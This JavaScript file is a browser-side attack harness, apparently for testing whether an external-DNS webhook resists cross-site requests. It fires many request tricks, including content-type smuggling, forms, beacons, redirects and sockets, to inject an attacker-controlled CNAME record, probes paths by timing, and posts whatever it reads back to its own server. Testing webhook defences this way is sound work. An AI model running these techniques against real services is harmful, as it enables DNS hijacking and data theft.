// What a hostile page tries on a webhook that it believes to be at TARGET. It reports to REPORT, the page's own server,
// what each attempt could read, and how long requests for different paths took. Each request carries its attempt's name.
const TYPE = "application/external.dns.webhook+json;version=1";
const SMUGGLED = `text/plain;${TYPE}`;
const CHANGES = JSON.stringify({
  create: [{ dnsName: "taken.example.com", recordType: "CNAME", targets: ["http://attacker:80"] }],
});
const PATHS = ["/", "/records", "/adjustendpoints", "/nothing"];
const TRIES = 5;

const wait = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
const at = (path, attempt) => `${TARGET}${path}?attempt=${attempt}`;

function ended(element, ...events) {
  const first = new Promise((resolve) => [...events, "error"].forEach((name) => element.addEventListener(name, resolve)));
  return Promise.race([first, wait(3000)]);
}

function loaded(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  const end = ended(element, "load");
  document.body.append(element);
  return end.then(() => element);
}

async function fetched(path, attempt, options) {
  const answer = await fetch(at(path, attempt), options);
  return answer.text();
}

function requested(method, attempt, type, body) {
  const request = new XMLHttpRequest();
  request.open(method, at("/records", attempt));
  if (type) request.setRequestHeader("Content-Type", type);
  const end = ended(request, "loadend");
  request.send(body);
  return end.then(() => request.responseText);
}

async function submitted(attempt, enctype) {
  const frame = await loaded("iframe", { name: attempt });
  const form = Object.assign(document.createElement("form"), { action: at("/records", attempt), method: "post" });
  Object.assign(form, { enctype, target: attempt });
  const [name, value] = [CHANGES.slice(0, -1) + ',"x":"', '"}'];
  form.append(Object.assign(document.createElement("input"), { name, value }));
  document.body.append(form);
  const end = ended(frame, "load");
  form.submit();
  await end;
  return frame.contentDocument?.body.innerText ?? "";
}

const POST = { method: "POST", mode: "no-cors", body: CHANGES };
const ATTEMPTS = {
  "post-smuggled": (name) => fetched("/records", name, { ...POST, headers: { "Content-Type": SMUGGLED } }),
  "post-text": (name) => fetched("/records", name, POST),
  "post-adjust": (name) => fetched("/adjustendpoints", name, { ...POST, body: "[]", headers: { "Content-Type": SMUGGLED } }),
  "post-typed": (name) => fetched("/records", name, { ...POST, mode: "cors", headers: { "Content-Type": TYPE } }),
  "post-redirected": (name) =>
    fetch(`${SITE}/redirect?to=${encodeURIComponent(at("/records", name))}`, {
      ...POST,
      headers: { "Content-Type": SMUGGLED },
    }).then((answer) => answer.text()),
  "put-typed": (name) => fetched("/records", name, { method: "PUT", body: CHANGES }),
  "xhr-smuggled": (name) => requested("POST", name, SMUGGLED, CHANGES),
  "xhr-read": (name) => requested("GET", name),
  "read-opaque": (name) => fetched("/records", name, { mode: "no-cors", credentials: "include" }),
  "read-cors": (name) => fetched("/records", name),
  "read-filter": (name) => fetched("/", name),
  "form-text": (name) => submitted(name, "text/plain"),
  "form-parts": (name) => submitted(name, "multipart/form-data"),
  "form-encoded": (name) => submitted(name, "application/x-www-form-urlencoded"),
  beacon: async (name) => {
    navigator.sendBeacon(at("/records", name), new Blob([CHANGES], { type: SMUGGLED }));
    await wait(500);
    return "";
  },
  image: async (name) => {
    const image = await loaded("img", { src: at("/records", name) });
    return image.naturalWidth ? "an image" : "";
  },
  script: async (name) => {
    const before = new Set(Object.keys(window));
    await loaded("script", { src: at("/records", name) });
    return Object.keys(window).filter((key) => !before.has(key)).join();
  },
  style: async (name) => {
    const link = await loaded("link", { rel: "stylesheet", href: at("/records", name) });
    return link.sheet ? [...link.sheet.cssRules].map((rule) => rule.cssText).join() : "";
  },
  frame: async (name) => {
    const frame = await loaded("iframe", { src: at("/records", name) });
    return frame.contentDocument?.body.innerText ?? "";
  },
  popup: async (name) => {
    const popup = window.open(at("/records", name));
    await wait(1000);
    return popup?.document.body.innerText ?? "";
  },
  socket: async (name) => {
    const socket = new WebSocket(at("/records", name).replace(/^http/, "ws"));
    const messages = [];
    socket.onmessage = (message) => messages.push(message.data);
    await ended(socket, "close");
    return messages.join();
  },
  events: async (name) => {
    const source = new EventSource(at("/records", name));
    const messages = [];
    source.onmessage = (message) => messages.push(message.data);
    await ended(source, "open");
    source.close();
    return messages.join();
  },
};

async function timed(path) {
  const start = performance.now();
  await fetch(at(path, "timing"), { mode: "no-cors", cache: "no-store" }).catch(() => null);
  return performance.now() - start;
}

async function main() {
  const read = {};
  for (const [name, attempt] of Object.entries(ATTEMPTS)) {
    read[name] = await Promise.race([attempt(name), wait(5000)]).catch(() => "");
  }
  const fastest = {};
  for (const path of PATHS) {
    const times = [];
    for (let count = 0; count < TRIES; count += 1) times.push(await timed(path));
    fastest[path] = Math.min(...times);
  }
  await fetch(`${SITE}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify({ read, fastest }) });
}

main();
